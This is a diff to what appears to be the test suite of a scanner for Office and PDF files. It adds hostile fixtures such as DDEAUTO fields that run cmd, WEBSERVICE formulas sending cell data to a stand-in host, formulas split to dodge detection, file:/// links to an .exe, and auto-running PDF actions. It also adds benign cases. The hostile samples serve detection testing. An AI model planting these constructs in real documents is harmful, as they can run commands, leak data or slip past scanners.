@@ -332,6 +332,30 @@ HOSTILE = {
         "reaching_formula",
     ),
     "runs by itself": (named_formula("Auto_Open"), "reaching_formula"),
+    "formula behind an attribute": (
+        with_text(
+            ".xlsx",
+            "xl/worksheets/sheet1.xml",
+            b"<f>SUM(B1:B1)",
+            b'<f xmlns:x="urn:>">WEBSERVICE("http://x.test/"&amp;A2)',
+        ),
+        "reaching_formula",
+    ),
+    "formula in pieces": (
+        with_text(
+            ".xlsx", "xl/worksheets/sheet1.xml", b"SUM(B1:B1)", b'WEB<x xmlns="urn:x"/>SERVICE(A1)'
+        ),
+        "reaching_formula",
+    ),
+    "field with two words": (
+        with_body('<w:p><w:fldSimple xmlns:x="urn:x" x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>'),
+        "reaching_field",
+    ),
+    "bare field link": (field("HYPERLINK file:///c:/x.exe"), "odd_link"),
+    "field link behind a remark": (
+        field("HYPERLINK \\o &quot;tip&quot; &quot;file:///a&quot;"),
+        "odd_link",
+    ),
     "dde field": (field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "reaching_field"),
     "picture field": (field("INCLUDEPICTURE https://x.test/a.png"), "reaching_field"),
     "text field": (field("INCLUDETEXT file"), "reaching_field"),
@@ -385,8 +409,27 @@ HOSTILE = {
         "active_content",
     ),
     "pdf link": (
-        with_object({"/OpenAction": Dictionary(S=Name.URI, URI=pikepdf.String("file:///a"))}),
+        with_object({"/A": Dictionary(S=Name.URI, URI=pikepdf.String("file:///a"))}),
         "odd_link",
+    ),
+    "pdf base of links": (
+        with_object({"/URI": Dictionary(Base=pikepdf.String("file:///C:/Windows/"))}),
+        "odd_link",
+    ),
+    "pdf goes out by itself": (
+        with_object({"/OpenAction": Dictionary(S=Name.URI, URI=pikepdf.String("https://x.test"))}),
+        "active_content",
+    ),
+    "pdf thread elsewhere": (
+        with_object({"/A": Dictionary(S=Name.Thread, F=pikepdf.String("\\\\host\\a.pdf"))}),
+        "active_content",
+    ),
+    "pdf imports": (with_object({"/A": Dictionary(S=Name.ImportData)}), "active_content"),
+    "pdf attachment for another system": (
+        with_object(
+            {"/AF": Array([Dictionary(EF=Dictionary(), F="a.xml", DOS=pikepdf.String("a.exe"))])}
+        ),
+        "active_content",
     ),
     "pdf before": (b"MZ" + plain(".pdf"), "not_only_a_pdf"),
     "pdf after": (plain(".pdf") + packed({"a": b"b"}), "not_only_a_pdf"),
@@ -462,6 +505,16 @@ def book_with_comment() -> bytes:
     return saved(book)
 
 
+def button(*choices: str) -> bytes:
+    file = io.BytesIO()
+    with pikepdf.open(io.BytesIO(plain(".pdf"))) as pdf:
+        looks = {choice: pdf.make_stream(b"") for choice in choices}
+        pdf.Root["/AP"] = Dictionary(N=Dictionary(looks))
+        pdf.save(file)
+
+    return file.getvalue()
+
+
 FORMULAS = (
     "=Table1[Amount]*2",
     "=Table1[Amount]-Sheet2!A1",
@@ -471,6 +524,7 @@ FORMULAS = (
     '="[x]y!z"&A1',
     '=IF(A1<>0,A2/A1,"WEBSERVICE(x)")',
     "='My Sheet'!A1",
+    "='Image (2)'!A1+'Dry Run (2024)'!B2",
     "=RUNNING_TOTAL+CALLS",
     "=_xlfn.XLOOKUP(A1,B:B,C:C)",
     "=_xlfn.SINGLE(A1)",
@@ -495,6 +549,7 @@ BENIGN = {
     "page numbers": (field("PAGE \\* MERGEFORMAT"), ".docx"),
     "contents": (complex_field(' TOC \\o "1-3"', " \\h \\z \\u "), ".docx"),
     "field link": (field("HYPERLINK &quot;https://x.test&quot;"), ".docx"),
+    "field link within": (field("HYPERLINK \\l &quot;_Toc1&quot; \\o &quot;c:/x&quot;"), ".docx"),
     "drawing": (with_body(DRAWN.format('title="x"')), ".docx"),
     "slide link": (
         with_text(
@@ -529,6 +584,7 @@ BENIGN = {
         ".pdf",
     ),
     "pdf form": (with_object({"/AcroForm": Dictionary(Fields=Array([]))}), ".pdf"),
+    "pdf button called JS": (button("/JS", "/JavaScript"), ".pdf"),
     "pdf structure": (with_object({"/X": Dictionary(S=Name.Sect, K=Array([]))}), ".pdf"),
 }
 
